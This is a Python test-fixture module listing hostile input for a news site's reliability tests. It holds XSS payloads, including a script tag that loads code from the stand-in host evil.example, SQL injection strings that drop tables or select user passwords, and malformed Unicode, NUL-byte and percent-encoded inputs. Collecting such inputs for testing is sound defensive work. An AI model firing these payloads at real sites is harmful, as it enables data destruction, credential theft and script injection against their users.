"""A corpus of hostile input that a public news site receives every day.

Plain data, used by the reliability tests; every entry is something a bot or a person has
typed into a form or a URL somewhere.
"""

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script><script>alert(2)//*/</script>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">انقر هنا</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<svg/onload=alert(1)//",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<p onclick='alert(1)'>نص عادي</p>",
    "<img src=x onerror=alert`1`>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src='x' onerror='alert(1)'",  # broken markup: never closed
    "<a href='javascript:alert(1)",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE comments_comment; --",
    "'; DELETE FROM articles_article WHERE '1'='1",
    "1' UNION SELECT username, password FROM accounts_user --",
    "admin'--",
    "%' AND 1=0 UNION SELECT NULL --",
    "' AND SLEEP(5) --",
    "1 AND pg_sleep(5)",
    "\\'; SELECT pg_sleep(5); --",
    "دمشق' OR 'ا'='ا",
]

# U+202A-U+202E (embeddings, overrides) and U+2066-U+2069 (isolates): stripped from comments.
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNICODE = [
    "تعليق \u202eعادي\u202c في الظاهر",
    "\u202egnp.exe",
    "\u2066اسم\u2069 \u2067مخفي\u2069",
    "zero\u200bwidth\u200c\u200djoiners\ufeff",
    "لا\u200cإله\u200d",  # joiners are part of the spelling and kept
    "e\u0301\u0301\u0301 \u0645\u064e\u0651\u064f\u0652",  # combining marks on Latin and Arabic
    "\u200f\u200eRTL/LTR marks\u200f",
    "😀👩🏽‍💻🇸🇾 تعليق مع رموز",
    "\U000f0000\ue000\uf8ff private use",
    "\ufffd\ufffe\uffff noncharacters",
    "Z̴̢͍͚̤͑̓ͅa̵̱̹͚̙̟͑l̸̦͇̓g̷̝̱͌o",
    "\u0000",
    "نص\u0000مع صفر",
    "\x1b[31mANSI\x1b[0m \x07\x08",
    "سطر\r\nثاني\rثالث\nرابع",
    "\u3000\u00a0\u2028\u2029",
]

LONG = ["ع" * 5000, "ع" * 5001, "a" * 100_000, "<b>" * 2000]
EMPTY = ["", " ", "\t\n", "\u200b"]

ALL = XSS + SQL + UNICODE + LONG + EMPTY

# Query strings that are not valid UTF-8 once percent-decoded, or odd in other ways.
BAD_QUERY_STRINGS = [
    "q=%ff%fe%fd",
    "q=%c3%28",
    "q=%e2%82",
    "q=%ed%a0%80",  # an encoded UTF-16 surrogate
    "q=%00",
    "q=%",
    "q=%%%",
    "q=%zz",
    "q=%d8",
    "q=" + "%d8%a7" * 3000,
    "q=a&q=b&page=%ff",
    "page=-1",
    "page=%C2%B2",  # "²": str.isdigit() says yes, int() says no
    "page=%D9%A3",  # Arabic-Indic three
    "page=99999999999999999999",
    "kind=%ff&section=%ff",
]

# Upload bodies that are not acceptable images.
NOT_AN_IMAGE = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n"
HTML_AS_IMAGE = b"<html><script>alert(1)</script></html>"

# Paths a bot tries with a NUL or other bytes no slug, username or tag can hold. PostgreSQL
# refuses a NUL in any query, so each reached the database as a 500 once.
BAD_PATHS = [
    "/section/%00/",
    "/section/%D8%B3%00/",
    "/author/%00/",
    "/author/admin%00/",
    "/tag/%00/",
    "/tag/x%00y/",
    "/kind/%00/",
    "/article/1/%00/",
    "/feeds/section/%00/",
    "/feeds/kind/%00/",
    "/sitemap-%00.xml",
    "/%00",
    "/section/%ff%fe/",
    "/author/%ed%a0%80/",
]

# Query strings with a NUL, for public pages and the admin's search and filters.
NUL_QUERY_STRINGS = ["q=%00", "q=%D8%B3%00", "page=1%00", "%00=1", "status=%00", "o=%00"]

# Names that show nothing: joiners, direction marks, fillers, tatweel, combining marks.
INVISIBLE_NAMES = [
    "\u200b",
    "\u200c\u200d",
    "\u200e\u200f",
    "\u2060\u2061\ufeff",
    "\u3164",
    "\u115f\u1160",
    "\uffa0",
    "\u0640\u0640",
    "\u064e\u0651",
    "\u00a0\u3000",
    "\u202e\u2066",
]
